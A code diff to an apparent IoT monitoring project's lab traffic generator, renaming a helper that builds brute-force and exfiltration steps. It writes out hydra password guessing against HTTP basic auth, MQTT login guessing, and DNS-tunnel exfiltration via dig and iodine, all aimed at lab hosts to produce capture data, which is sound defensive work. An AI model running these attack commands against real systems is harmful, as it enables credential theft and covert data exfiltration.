@@ -94,8 +94,8 @@ def _write(path: Path, lines: list[str]) -> str:
     return str(path)
 
 
-def _py(*args: str) -> list[str]:
-    """A lab helper from lab_services, run with this interpreter."""
+def helper(*args: str) -> list[str]:
+    """argv of a lab_services helper (server, benign driver, bounded attack loop), run with this interpreter."""
     return [sys.executable, "-m", "iotwatch.captures.lab_services", *args]
 
 
@@ -167,7 +167,7 @@ def _bruteforce(ctx: LabContext, rng: random.Random) -> list[Step]:
         Step("hydra http-get basic auth", "bruteforce",
              [hydra + ["-l", "admin", "-P", pw, f"http-get://{ctx.ip('gw')}/admin"]]),
         Step("mosquitto_pub login guessing", "bruteforce",
-             [_py("guess-mqtt", "--host", ctx.ip("hub"), "--user", rng.choice(USERS), "--passwords", pw,
+             [helper("guess-mqtt", "--host", ctx.ip("hub"), "--user", rng.choice(USERS), "--passwords", pw,
                   "--max", str(n), "--pause", str(rng.choice([0.05, 0.1, 0.2])))], needs=("mosquitto_pub",)),
     ]
     rng.shuffle(steps)
@@ -201,7 +201,7 @@ def _exfiltration(ctx: LabContext, rng: random.Random) -> list[Step]:
     sink = ctx.ip("sink")
 
     def dig(qtype: str, n: int) -> list[str]:
-        return _py("dig-tunnel", "--server", ctx.ip("gw"), "--zone", ctx.tunnel_zone, "--qtype", qtype,
+        return helper("dig-tunnel", "--server", ctx.ip("gw"), "--zone", ctx.tunnel_zone, "--qtype", qtype,
                    "--queries", str(n), "--batch", str(rng.choice([5, 10, 20])), "--pause", str(rng.choice([0.2, 0.4])),
                    "--seed", str(rng.getrandbits(32)))
 
@@ -211,7 +211,7 @@ def _exfiltration(ctx: LabContext, rng: random.Random) -> list[Step]:
         Step("DNS tunnel (dig A, base32 labels via the lab resolver)", "exfiltration",
              [dig("A", rng.choice([150, 200]))], dns_suffix=ctx.tunnel_zone, needs=("dig",)),
         Step("iodine DNS tunnel via the lab resolver", "exfiltration",
-             [_py("iodine-exfil", "--resolver", ctx.ip("gw"), "--zone", ctx.iodine_zone, "--password",
+             [helper("iodine-exfil", "--resolver", ctx.ip("gw"), "--zone", ctx.iodine_zone, "--password",
                   ctx.creds.get("iodine", "iodine"), "--peer", ctx.iodine_peer, "--pings", str(rng.choice([30, 50])),
                   "--size", str(rng.choice([300, 600])))], weight=2.0, min_seconds=15.0, dns_suffix=ctx.iodine_zone,
              needs=("iodine", "ping")),
